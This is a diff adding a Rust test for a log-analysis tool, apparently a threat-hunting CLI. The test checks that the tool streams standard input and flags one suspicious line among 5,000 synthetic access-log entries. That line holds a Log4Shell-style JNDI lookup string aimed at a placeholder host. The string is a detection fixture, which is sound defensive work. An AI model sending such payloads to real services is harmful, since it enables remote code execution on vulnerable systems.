@@ -132,3 +132,36 @@ fn issue17_outputs_are_checked_before_the_first_log_is_read() {
     assert!(!err.contains("events"), "{err}");
     assert_eq!(std::fs::read(&good).unwrap_or_default().len(), 0);
 }
+
+#[test]
+fn issue17_standard_input_is_read_as_a_stream() {
+    let mut text = String::new();
+    for i in 0..5_000u32 {
+        text.push_str(&format!(
+            "198.51.100.{} - - [12/Jul/2024:10:00:{:02} +0000] \"GET /p{i} HTTP/1.1\" 200 5 \"-\" \"ua\"\n",
+            i % 250,
+            i % 60
+        ));
+    }
+    text.push_str("203.0.113.9 - - [12/Jul/2024:11:00:00 +0000] \"GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"ua\"\n");
+    for name in ["-", "/dev/stdin"] {
+        let out = spoor()
+            .args(["hunt", "-f", "jsonl", name])
+            .write_stdin(text.clone())
+            .output()
+            .unwrap();
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{name}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let lines = jsonl(&out.stdout);
+        let s = summary(&lines);
+        assert_eq!(s["events"], 5_001, "{name}");
+        assert_eq!(s["files"][0]["format"], "access", "{name}");
+        let hits: Vec<&Value> = lines.iter().filter(|l| l.get("rule").is_some()).collect();
+        assert_eq!(hits.len(), 1, "{name}");
+        assert_eq!(hits[0]["source"]["line"], 5_001);
+    }
+}
